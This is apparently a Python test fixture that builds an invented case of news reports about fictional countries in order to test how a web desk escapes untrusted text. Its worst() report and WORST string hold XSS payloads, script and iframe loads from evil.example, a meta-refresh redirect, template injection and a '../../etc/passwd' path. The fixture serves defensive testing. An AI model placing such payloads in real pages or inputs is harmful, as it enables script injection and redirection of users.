"""A small invented case with something of everything that the desk shows, and what a stranger may write in a report."""

from pathlib import Path
from typing import Any

from made import put, record, span
from web.desk_case import WARNING, hostile, said, shells, truce, warning

from dragoman.case import Case
from dragoman.record import correcting
from dragoman.record.alerts import save_search
from dragoman.record.facets import Asked
from dragoman.record.search import Query
from dragoman.record.store.connect import transaction

Json = dict[str, Any]

ORLA = {"name": "Orla", "country": "FRA", "lat": 47.0, "lon": 2.0, "precision": "city"}
HILLS = {"name": "<svg onload=alert(5)>Hills", "country": "FRA", "lat": 45.0, "lon": 3.0, "precision": "region"}
HUGE = "x" * 4_000
WORST = (
    "\"><svg onload=alert(6)><a href=\"javascript:alert(7)\">here</a> ends talks\n\n"
    f"Westia' onmouseover='alert(8) quit the <iframe src=//evil.example></iframe> talks with {HUGE} on Thursday. The truce was suspended. "
    "</p></main><style>*{display:none}</style><form action=//evil.example><input autofocus onfocus=alert(9)> "
    "<meta http-equiv=refresh content=0;url=//evil.example> hx-get=\"//evil.example\" hx-trigger=load &lt;b&gt;"
)


def make(path: Path) -> Path:
    """The case, with a correction and a saved search."""
    longer = WARNING.replace("on Monday.", "on Monday. A ferry was turned back.")
    with Case.open(path, create=True) as case:
        put(case, warning(), warning("copy", "Daily Gull"), _told_at(shells(), ORLA), hostile(), worst(), arabic(), *visits())
        put(case, warning(text=longer))
        (event,) = case.search(Query(types=("THREATEN",))).events
        case.correct(lambda c: correcting.note(c, event["id"], "<b onclick=alert(1)>seen</b>"), who="<i>ann</i>")
        with transaction(case.connection, case.path):
            save_search(case.connection, "<img src=x onerror=alert(1)>", Asked(words="truce"), "2025-06-09T00:00:00+00:00")
    return path


def worst() -> Json:
    """A report that tries every way out of its place in a page."""
    name = "Westia' onmouseover='alert(8)"
    told = {"trigger": "quit", "type": "REJECT", "actors": [name], "recipients": [HUGE], "date": "2025-06-05", "status": "negated"}
    found = record(
        "../../etc/passwd?<script>#", WORST, outlet='"><script src=//evil.example/x.js></script>', title=WORST.split("\n")[0],
        published="2025-06-05", url="data:text/html,<script>alert(1)</script>", events=[told],
    )  # fmt: skip
    found["report"]["byline"] = "{% raw %}{{ 7 * 7 }}<script>"
    found["warnings"].append("<script>alert('warning')</script>")
    said(found, name, "quit", "talks with")
    found["statements"][0]["channel"] = "<marquee>X"
    truce(found, "suspended", "The truce was suspended", found["statements"][0]["id"])
    found["processes"][0]["name"] = "<details open ontoggle=alert(1)>truce"
    claims = [
        {"value": value, "span": span(WORST, words), "report": found["report"]["id"], "statement": None}
        for value, words in (("<b>one</b>", "quit"), ("javascript:two", "on Thursday"))
    ]  # fmt: skip
    reason = "<script>alert('reason')</script> against it."
    found["discrepancies"] = [{"id": "d-1", "kind": "figure", "claims": claims, "resolved": None, "reason": reason, "rule": "x"}]
    return _told_at(found, HILLS)


def arabic() -> Json:
    """Names and words that run from right to left."""
    told = {"trigger": "اتهم", "type": "ACCUSE", "actors": ["عمر البشير"], "recipients": ["Norland"], "date": "2025-06-06"}
    text = "اتهم عمر البشير حكومة Norland\n\nاتهم عمر البشير حكومة Norland (نورلاند) يوم الجمعة."
    return record("arabic", text, outlet="صحيفة الميناء", title=text.split("\n")[0], published="2025-06-06", events=[told])


def visits() -> list[Json]:
    """Two reports that tell one visit."""
    told = {"trigger": "visited", "type": "CONSULT", "actors": ["Westland"], "recipients": ["Estia"], "date": "2025-06-05"}
    return [
        _told_at(record(id_, text, events=[told], published="2025-06-06", outlet=outlet), ORLA)
        for id_, text, outlet in (
            ("v1", "Westland visited Estia for talks on grain.", "Post"), ("v2", "The head of Westland visited Estia on grain.", "Sun"),
        )
    ]  # fmt: skip


def _told_at(found: Json, place: Json) -> Json:
    for event in found["events"]:
        event["place"] = place
    return found
